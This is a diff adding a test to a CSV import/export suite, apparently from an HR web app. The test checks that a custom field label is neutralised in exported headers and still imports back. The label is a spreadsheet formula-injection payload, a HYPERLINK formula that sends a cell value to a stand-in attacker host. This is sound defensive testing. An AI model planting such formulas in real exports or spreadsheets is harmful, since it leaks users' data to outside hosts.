@@ -2,6 +2,7 @@ import { importRowMessage } from '@wac/shared/import-messages';
 import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { addMembership, createCompany, createDepartment, createUser, setEmployee } from '../../db/seed/factories';
+import { parseCsv } from '../../lib/csv';
 import { rows } from '../../lib/sql';
 import { call, createTestApp, type TestContext, tokenFor } from '../../test/harness';
 import { multipart } from '../../test/multipart';
@@ -330,6 +331,41 @@ describe('members CSV import with employee record columns', () => {
     expect(res).toMatchObject({ totalRows: 6, imported: 0, updated: 0, invalidRows: 0 });
     expect(res.counts).toMatchObject({ unchanged: 6, updated: 0, invited: 0 });
     expect(await state()).toEqual(before);
+  });
+
+  it("guards a custom field's label in the exports' header like any cell, and the guarded header imports back", async () => {
+    const label = '=HYPERLINK("https://evil.test/?"&B2,"Grade"), band';
+    const admin = (method: 'GET' | 'POST' | 'PATCH' | 'DELETE', url: string, payload?: object) =>
+      call(t.app, { method, url, host: 'acme', token: tok.admin, payload });
+    const field = (await admin('POST', '/api/employees/fields', { label, type: 'text' })).json().uuid as string;
+    const version = (await record('alice')).version;
+    expect((await admin('PATCH', `/api/employees/${u.alice}`, { version, custom: { [field]: 'B2' } })).statusCode).toBe(
+      200,
+    );
+    try {
+      for (const url of ['/api/members/export.csv', '/api/employees/export.csv', '/api/members/import/template.csv']) {
+        const body = (await admin('GET', url)).body.replace(/^\uFEFF/, '');
+        const [header, ...lines] = parseCsv(body);
+        // The label is one cell (its comma does not shift the columns under it) that no spreadsheet runs.
+        expect(header, url).toContain(`'${label}`);
+        expect(body.split('\r\n')[0], url).not.toMatch(/(^|,)=/);
+        for (const line of lines) expect(line.length, url).toBe(header!.length);
+      }
+      const exported = (await admin('GET', '/api/members/export.csv')).body;
+      const before = await state();
+      const res = (await send('/api/members/import', exported)).json();
+      expect(res).toMatchObject({ invalidRows: 0, counts: { updated: 0, invited: 0 } });
+      expect(await state()).toEqual(before);
+      // The guarded header still names the field: a changed value imports into it.
+      const changed = exported.replace(',B2,', ',C3,');
+      expect((await send('/api/members/import', changed)).json()).toMatchObject({
+        invalidRows: 0,
+        counts: { updated: 1 },
+      });
+      expect((await record('alice')).custom[field]).toBe('C3');
+    } finally {
+      await admin('DELETE', `/api/employees/fields/${field}`);
+    }
   });
 
   it('offers a template of the columns, custom fields included', async () => {
